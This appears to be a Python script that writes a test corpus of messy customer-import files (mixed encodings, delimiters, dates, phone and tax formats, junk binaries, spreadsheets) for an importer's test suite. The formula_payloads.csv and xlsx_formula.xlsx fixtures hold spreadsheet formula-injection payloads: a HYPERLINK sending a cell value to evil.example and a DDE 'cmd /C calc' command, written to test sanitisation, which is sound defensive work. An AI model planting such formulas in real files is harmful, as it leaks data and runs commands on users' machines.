"""Writes the hostile and messy customer-import corpus next to this script.

Run once (``.venv/bin/python tests/import_corpus/make_corpus.py``); the outputs are
committed, so the tests read fixed bytes. Every file is small except the two that test
the field limit (150 and 300 KB of one repeated character). tests/api/test_import_corpus.py
says, for each file, what the import must make of it.
"""

from __future__ import annotations

import codecs
import datetime as dt
import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

import xlsxwriter

HERE = Path(__file__).resolve().parent
HEADER = "Name,Business Type,Code,Email,Phone,Tax ID,State,Credit Limit"


def text(name: str, content: str, encoding: str = "utf-8", newline: str = "\n") -> None:
    data = content.replace("\n", newline).encode(encoding)
    (HERE / name).write_bytes(data)


def raw(name: str, data: bytes) -> None:
    (HERE / name).write_bytes(data)


def lines(*rows: str) -> str:
    return "\n".join(rows) + "\n"


def csv_files() -> None:
    text(
        "utf8_bom.csv",
        "\ufeff"
        + lines(
            "Customer Name,Type,Code,E-mail,Mobile,GSTIN,State,Credit Limit",
            'Café Müller,SME,U8B-1,cafe@muller.in,98200 12345,27AAPFU0939F1ZV,MH,"50,000"',
            "Łódź Tools,Enterprise,U8B-2,,,,,",
        ),
    )
    text(
        "utf8_no_bom.csv",
        lines(
            "Name,Business Type,Code",
            "शर्मा ट्रेडर्स,SME,U8-1",
            "Ñandú Exports,Enterprise,U8-2",
            "Zoë’s Bakery,Individual,U8-3",
            "முருகன் ஸ்டோர்ஸ்,SME,U8-4",
        ),
    )
    # Excel's "Unicode text": UTF-16 LE with a BOM, tab-delimited, CRLF.
    unicode_text = lines(
        "Name\tBusiness Type\tCode\tPhone\tState",
        "Café Müller\tSME\tU16-1\t98200 12345\tMaharashtra",
        "शर्मा ट्रेडर्स\tEnterprise\tU16-2\t\tKA",
        "Plain Ascii Ltd\tGovernment\tU16-3\t\t",
    ).replace("\n", "\r\n")
    raw(
        "utf16le_bom_excel_unicode_text.txt", codecs.BOM_UTF16_LE + unicode_text.encode("utf-16-le")
    )
    text(
        "cp1252_accents.csv",
        lines(
            "Name,Business Type,Code,City",
            "Café Müller,SME,CP-1,München",
            "Zoë’s Bakery,Individual,CP-2,Köln",
            "Crème Brûlée Société,SME,CP-3,Besançon",
            "Señor Óscar Peña,Individual,CP-4,Málaga",
            "“Quoted” Trading – Exports,Enterprise,CP-5,Zürich",
        ),
        encoding="cp1252",
    )
    text(
        "latin1_accents.csv",
        lines(
            "Name,Business Type,Code,City",
            "Société Générale Équipements,Enterprise,L1-1,Orléans",
            "Ålborg Maskinfabrik,SME,L1-2,Ålborg",
            "Øresund Trading,SME,L1-3,København",
            "Françoise Dubois,Individual,L1-4,Besançon",
            "José Peña Hermanos,SME,L1-5,Córdoba",
        ),
        encoding="latin-1",
    )
    text(
        "semicolon_decimal_comma.csv",
        lines(
            "Name;Business Type;Code;Credit Limit",
            "Müller GmbH, Werk 2;Enterprise;SC-1;25000",
            'Rossi SpA;SME;SC-2;"1,50,000"',
            "Dupont SARL;SME;SC-3;2500,50",
            "Schmidt AG;Enterprise;SC-4;1.234,56",
        ),
        encoding="cp1252",
    )
    text(
        "tab_delimited.tsv",
        lines(
            "Name\tBusiness Type\tCode\tTags",
            "Sharma, Verma & Co\tSME\tTB-1\tvip;export",
            'Quote "Inside" Works\tEnterprise\tTB-2\t',
        ),
    )
    text(
        "pipe_delimited.csv",
        lines(
            "Name|Business Type|Code|Credit Limit",
            "Iyer, Iyer & Sons|SME|PP-1|1,00,000",
            "Gupta Metals|Enterprise|PP-2|2,50,000.75",
        ),
    )
    text(
        "quoted_multiline.csv",
        lines(
            "Name,Business Type,Code,Email,Address",
            '"Acme Tools",Enterprise,QM-1,,"Plot 12',
            "MIDC Industrial Area",
            'Andheri East"',
            'Bharat Lathes,SME,QM-2,bad-email,"Line one',
            'Line two"',
            "Chennai Castings,SME,QM-3,,Simple address",
            "Delta Dies,SME,QM-4,also-bad,",
        ),
    )
    text(
        "crlf_line_endings.csv",
        lines(
            "Name,Business Type,Code,Email,Address",
            'Crlf One,SME,CR-1,,"Shed 4',
            'Ring Road"',
            "Crlf Two,SME,CR-2,,",
            "Crlf Three,SME,CR-3,not-an-email,",
        ),
        newline="\r\n",
    )
    text(
        "blank_lines.csv",
        lines(
            "Name,Business Type,Code,Email",
            "Blank One,SME,BL-1,",
            "",
            "Blank Two,SME,BL-2,x@@y",
            " , ,  ,",
            "Blank Three,SME,BL-3,",
            "",
            "",
            "Blank Four,SME,BL-4,bad",
        ),
    )
    text(
        "formula_payloads.csv",
        lines(
            "Name,Business Type,Code",
            '"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",SME,FX-1',
            "+cmd|' /C calc'!A0,SME,FX-2",
            "-2+3,SME,FX-3",
            "@SUM(A1:A2),SME,FX-4",
            "'=1+2,SME,FX-5",
            "'-5 Degrees North,SME,FX-6",
            "''@twice,SME,FX-7",
            "'Plain Quote Ltd,SME,FX-8",
        ),
    )
    text(
        "duplicate_headers.csv",
        lines("Name,Business Type,Email,E-mail", "Dup Head,SME,a@dh.in,b@dh.in"),
    )
    text(
        "missing_name_column.csv",
        lines("Code,Business Type,Email", "MN-1,SME,a@mn.in", "MN-2,SME,b@mn.in"),
    )
    text(
        "unknown_columns.csv",
        lines(
            "Name,Business Type,Favourite Colour,,Notes",
            "Unknown Cols,SME,Blue,ignored,call after 5",
        ),
    )
    text(
        "ambiguous_dates.csv",
        lines(
            "Name,Business Type,Code,Customer Since",
            "Amb One,SME,AD-1,03/04/2024",
            "Amb Two,SME,AD-2,13/04/2024",
            "Amb Three,SME,AD-3,04/13/2024",
            "Amb Four,SME,AD-4,2024-04-03",
            "Amb Five,SME,AD-5,05/05/2024",
            "Amb Six,SME,AD-6,31/02/2024",
        ),
    )
    text(
        "two_digit_years.csv",
        lines(
            "Name,Business Type,Code,Customer Since",
            "Ty One,SME,TY-1,03/04/24",
            "Ty Two,SME,TY-2,3-4-24",
            "Ty Three,SME,TY-3,24-04-03",
            "Ty Four,SME,TY-4,1 Jan 24",
            "Ty Five,SME,TY-5,03/04/2024",
            "Ty Six,SME,TY-6,1 Jan 2024",
        ),
    )
    text(
        "indian_grouping.csv",
        lines(
            "Name,Business Type,Code,Credit Limit",
            'Ig One,SME,IG-1,"1,00,000"',
            'Ig Two,SME,IG-2,"12,34,567.50"',
            'Ig Three,SME,IG-3,"₹ 5,00,000"',
            'Ig Four,SME,IG-4,"1,0,00"',
            'Ig Five,SME,IG-5,"100,000"',
            'Ig Six,SME,IG-6,"1,00,00,000"',
            'Ig Seven,SME,IG-7,"10,00"',
            "Ig Eight,SME,IG-8,Rs. 25000/-",
            'Ig Nine,SME,IG-9,"1,000,00"',
        ),
    )
    text(
        "ambiguous_match.csv",
        lines(
            "Name,Business Type,Code,Email",
            "Row Matching Two,SME,AMB-A,b@amb.in",
            "Matches D Only,SME,AMB-D,",
            "Matches E By Email,SME,,E@amb.in",
            "Brand New,SME,AMB-C,c@amb.in",
        ),
    )
    text(
        "in_file_duplicates.csv",
        lines(
            "Name,Business Type,Code,Email,Tax ID",
            "First,SME,DUP-1,first@dup.in,27AAAAA0000A1Z5",
            "Second Same Code,SME,dup-1,second@dup.in,",
            "Third Same Email,SME,DUP-3,FIRST@dup.in,",
            "Fourth Same Tax Id,SME,DUP-4,,27aaaaa 0000a1z5",
            "Fifth Fine,SME,DUP-5,fifth@dup.in,",
        ),
    )
    text("header_only.csv", "Name,Business Type,Code,Email\n")
    raw("empty.csv", b"")
    text(
        "ragged_rows.csv",
        lines(
            "Name,Business Type,Code,Email",
            "Rag One,SME,RG-1,",
            "Rag Two,SME,RG-2,,extra,cells",
            "Rag Three,SME,RG-3,,,,",
            "Rag Four,SME,RG-4",
            "Sharma, Verma & Co,SME,RG-5,rg5@example.in",
        ),
    )
    text(
        "states.csv",
        lines(
            "Name,Business Type,Code,State",
            "St One,SME,ST-1,MH",
            "St Two,SME,ST-2,maharashtra",
            "St Three,SME,ST-3,tamil nadu",
            "St Four,SME,ST-4,TN",
            "St Five,SME,ST-5,Orissa",
            "St Six,SME,ST-6,New Delhi",
            "St Seven,SME,ST-7,  KARNATAKA  ",
            "St Eight,SME,ST-8,Atlantis",
            "St Nine,SME,ST-9,Jammu & Kashmir",
        ),
    )
    text(
        "state_joined_spelling.csv",
        lines(
            "Name,Business Type,Code,State",
            "Joined One,SME,SJ-1,Tamilnadu",
            "Joined Two,SME,SJ-2,Westbengal",
        ),
    )
    text(
        "business_types.csv",
        lines(
            "Name,Type,Code",
            "Bt One,SME,BT-1",
            "Bt Two,Pvt Ltd,BT-2",
            "Bt Three,Govt,BT-3",
            "Bt Four,Proprietor,BT-4",
            "Bt Five,small-business,BT-5",
            "Bt Six,ENTERPRISE,BT-6",
            "Bt Seven,Small Business,BT-7",
            "Bt Eight,Alien Overlords,BT-8",
            "Bt Nine,,BT-9",
        ),
    )
    text(
        "phones.csv",
        lines(
            "Name,Business Type,Code,Mobile",
            "Ph One,SME,PH-1,98200 12345",
            "Ph Two,SME,PH-2,+91 98200 12345",
            "Ph Three,SME,PH-3,+91-98200-12346",
            "Ph Four,SME,PH-4,098200 12347",
            "Ph Five,SME,PH-5,(022) 2266 1234",
            "Ph Six,SME,PH-6,+44 20 7946 0958",
            "Ph Seven,SME,PH-7,0091 98200 12348",
            "Ph Eight,SME,PH-8,12345",
            "Ph Nine,SME,PH-9,call me",
        ),
    )
    text(
        "tilde_delimited.csv",
        lines("Name~Business Type~Code", "Tilde One~SME~TD-1", "Tilde, Two~Enterprise~TD-2"),
    )
    text(
        "mixed_valid_invalid.csv",
        lines(
            "Name,Business Type,Code,Email,Phone,Tax ID,Status,Country,Owner Email,Credit Limit",
            "Good A,SME,MX-1,a@mx.in,,,Active,IN,,",
            ",SME,MX-2,,,,,,,",
            "Bad Email,SME,MX-3,not-an-email,,,,,,",
            "Bad Tax,SME,MX-4,,,AB,,,,",
            "Bad Status,SME,MX-5,,,,Maybe,,,",
            "Bad Country,SME,MX-6,,,,,Republic of Nowhere,,",
            "Bad Owner,SME,MX-7,,,,,,nobody@nowhere.in,",
            "Bad Code,SME,MX 8!,,,,,,,",
            "Two Bad,SME,MX-9,bad,12,,,,,",
            'Good B,Enterprise,MX-10,,,,Prospect,India,,"2,50,000"',
        ),
    )
    text(
        "header_synonyms.csv",
        lines(
            "  CUSTOMER-NAME ,Customer Type,Customer Code,E-Mail Address,Mobile No.,GSTIN/UIN,"
            "State/UT,Credit Limit (₹),PIN Code,Date Added",
            "Synonym Traders,MSME,SY-1,Sales@Synonym.IN,+91 98450 12345,29abcde1234f1z5,"
            'karnataka,"1,25,000",560001,15/08/2020',
        ),
    )
    text(
        "explicit_mapping.csv",
        lines("Col A,Col B,Col C", "Mapped One,SME,EM-1", "Mapped Two,Enterprise,EM-2"),
    )
    text(
        "unterminated_quote.csv",
        lines(
            "Name,Business Type,Code",
            "Quote Good,SME,UQ-1",
            '"Quote Broken,SME,UQ-2',
            "Quote Swallowed,SME,UQ-3",
        ),
    )
    text(
        "whitespace_nbsp.csv",
        lines(
            "Name,Business Type,Code,Email,Phone",
            "\u00a0Spaced\u00a0 Out  Ltd\u00a0, SME , ws-1 ,  Spaced@Out.IN  ,98200\u00a012349",
        ),
    )
    text(
        "cp1252_one_accent.csv",
        lines(
            "Name,Business Type,Code,City",
            "Müller Traders,SME,C1-1,Pune",
            "Patel Brothers,SME,C1-2,Surat",
            "Rao Engineering,Enterprise,C1-3,Hyderabad",
        ),
        encoding="cp1252",
    )
    raw(
        "utf16be_bom_comma.csv",
        codecs.BOM_UTF16_BE
        + lines("Name,Business Type,Code", "Café Müller,SME,BE-1", "Zoë Exports,SME,BE-2").encode(
            "utf-16-be"
        ),
    )
    # Excel's "CSV UTF-8" where the list separator is ';' (most of Europe): BOM, CRLF.
    text(
        "excel_csv_utf8_semicolon_crlf.csv",
        "\ufeff"
        + lines(
            "Name;Business Type;Code;Credit Limit",
            "Müller GmbH;Enterprise;EX-1;25000",
            'Kraft, Söhne & Co;SME;EX-2;"1,00,000"',
        ),
        newline="\r\n",
    )
    text(
        "single_quote_char.csv",
        lines("Name,Business Type,Code", "'Sharma, Verma & Co',SME,SQ-1", "Plain Name,SME,SQ-2"),
    )
    # A 300 KB first line without a newline or a delimiter: one gigantic header field.
    raw("huge_single_line.csv", b"A" * 300_000)
    # One quoted field of 150,000 characters on row 3, past the 100,000-character limit.
    raw(
        "giant_field.csv",
        (
            "Name,Business Type,Code\nBefore Giant,SME,GF-1\n"
            + '"'
            + "G" * 150_000
            + '",SME,GF-2\nAfter Giant,SME,GF-3\n'
        ).encode(),
    )


def junk_files() -> None:
    rng = random.Random(20261124)
    raw("random_bytes.csv", bytes(rng.randrange(256) for _ in range(4096)))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    png = (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
        + chunk(
            b"IDAT", zlib.compress(b"\x00" + b"\xff\x00\x00" * 2 + b"\x00" + b"\x00\xff\x00" * 2)
        )
        + chunk(b"IEND", b"")
    )
    raw("png_renamed.csv", png)
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff"
    raw("legacy_excel_97.xls", ole + b"\x00" * (512 - len(ole)) + b"Workbook" + b"\x00" * 504)
    raw("corrupt_workbook.xlsx", b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(600)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "Name,Business Type\nZipped,SME\n")
    raw("zip_not_workbook.xlsx", buffer.getvalue())


def _book(name: str) -> xlsxwriter.Workbook:
    return xlsxwriter.Workbook(
        str(HERE / name),
        {"strings_to_numbers": False, "strings_to_formulas": False, "strings_to_urls": False},
    )


def xlsx_files() -> None:
    book = _book("xlsx_typed_cells.xlsx")
    sheet = book.add_worksheet("Customers")
    day = book.add_format({"num_format": "dd/mm/yyyy"})
    stamp = book.add_format({"num_format": "dd/mm/yyyy hh:mm"})
    for col, header in enumerate(
        ["Name", "Business Type", "Code", "Phone", "Credit Limit", "Customer Since", "Tax ID"]
    ):
        sheet.write_string(0, col, header)
    sheet.write_string(1, 0, "Typed One")
    sheet.write_string(1, 1, "SME")
    sheet.write_string(1, 2, "XT-1")
    sheet.write_number(1, 3, 9820012345)
    sheet.write_number(1, 4, 100000)
    sheet.write_datetime(1, 5, dt.datetime(2024, 3, 4), day)
    sheet.write_string(1, 6, "27AAPFU0939F1ZV")
    sheet.write_string(2, 0, "Typed Two")
    sheet.write_string(2, 1, "Enterprise")
    sheet.write_number(2, 2, 1001)
    sheet.write_number(2, 3, 919845012345)
    sheet.write_number(2, 4, 2500.5)
    sheet.write_datetime(2, 5, dt.datetime(2022, 1, 15, 10, 30), stamp)
    sheet.write_string(3, 0, "Typed Three")
    sheet.write_string(3, 1, "SME")
    sheet.write_string(3, 2, "XT-3")
    sheet.write_number(3, 4, 12.345)
    book.close()

    book = _book("xlsx_formula.xlsx")
    sheet = book.add_worksheet("Customers")
    for col, header in enumerate(["Name", "Business Type", "Code", "Credit Limit"]):
        sheet.write_string(0, col, header)
    sheet.write_formula(1, 0, '=CONCATENATE("Formula"," Works")', None, "Formula Works")
    sheet.write_string(1, 1, "SME")
    sheet.write_string(1, 2, "XF-1")
    sheet.write_formula(1, 3, "=1000*5", None, 5000)
    sheet.write_string(2, 0, '=HYPERLINK("http://evil.example","Click")')
    sheet.write_string(2, 1, "SME")
    sheet.write_string(2, 2, "XF-2")
    sheet.write_string(3, 0, "'=1+2")
    sheet.write_string(3, 1, "SME")
    sheet.write_string(3, 2, "XF-3")
    book.close()

    book = _book("xlsx_named_sheet_blank_rows.xlsx")
    notes = book.add_worksheet("Read me")
    notes.write_string(0, 0, "Customers are on the next sheet")
    sheet = book.add_worksheet("Customers")
    for col, header in enumerate(["Name", "Business Type", "Code", "Email"]):
        sheet.write_string(0, col, header)
    sheet.write_row(1, 0, ["Sheet One", "SME", "NS-1", ""])
    # rows 3 and 4 left empty
    sheet.write_row(4, 0, ["Sheet Two", "SME", "NS-2", "broken@"])
    sheet.write_row(5, 0, ["Sheet Three", "SME", "NS-3", ""])
    book.close()


if __name__ == "__main__":
    csv_files()
    junk_files()
    xlsx_files()
    print(len([p for p in HERE.iterdir() if p.suffix != ".py"]), "corpus files")
